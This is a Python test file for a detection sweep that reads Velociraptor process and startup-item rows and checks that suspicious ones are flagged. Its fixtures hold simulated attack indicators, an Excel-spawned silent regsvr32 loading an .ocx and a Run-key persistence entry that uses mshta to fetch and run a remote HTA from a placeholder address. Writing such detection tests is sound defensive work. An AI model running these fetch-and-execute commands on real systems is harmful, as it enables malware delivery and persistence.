"""Rows of Velociraptor as artefacts: hits count, and what is not there is not clean."""

from __future__ import annotations

from honmono.sweep.scanner._core import COULD_NOT, FOUND
from honmono.sweep.scanner.looking import look
from honmono.sweep.velociraptor import artefacts_of
from tests.sweep.machines import KNOWLEDGE

PSLIST: list[dict[str, object]] = [
    {"Name": "EXCEL.EXE", "Pid": 70, "Ppid": 1, "Exe": "C:\\x\\EXCEL.EXE", "CommandLine": "x", "Username": "TKY\\a"},
    {"Name": "regsvr32.exe", "Pid": 71, "Ppid": 70, "Exe": "C:\\Windows\\System32\\regsvr32.exe", "CommandLine": "regsvr32 -s ..\\wn1.ocx", "Hash": {"MD5": "x"}},
]  # fmt: skip
STARTUP: list[dict[str, object]] = [
    {
        "Name": "a",
        "OSPath": "HKEY_USERS\\S-1\\Run\\a",
        "Details": "mshta http://192.0.2.1/a.hta",
    },
    {"Name": "b.lnk", "OSPath": "C:\\b.lnk", "Details": None},
]


def test_hits_are_found_and_the_rest_could_not_be_looked_at() -> None:
    rows = {"Windows.System.Pslist": PSLIST, "Windows.Sys.StartupItems": STARTUP}
    told = look(artefacts_of("TKY-PC014", rows), KNOWLEDGE)["checks"]
    outcomes = {one["name"]: one["outcome"] for one in told}

    assert outcomes.pop("office-child") == FOUND
    assert outcomes.pop("autoruns") == FOUND
    assert set(outcomes.values()) == {COULD_NOT}


def test_what_was_not_collected_stays_unknown() -> None:
    got = artefacts_of(
        "A", {"Windows.System.Services": [{"Name": "s", "PathName": ["x"]}]}
    )

    assert got.processes is None
    assert got.autoruns is None
    assert got.services == [
        {"name": "s", "display_name": "", "command_line": "", "state": ""}
    ]
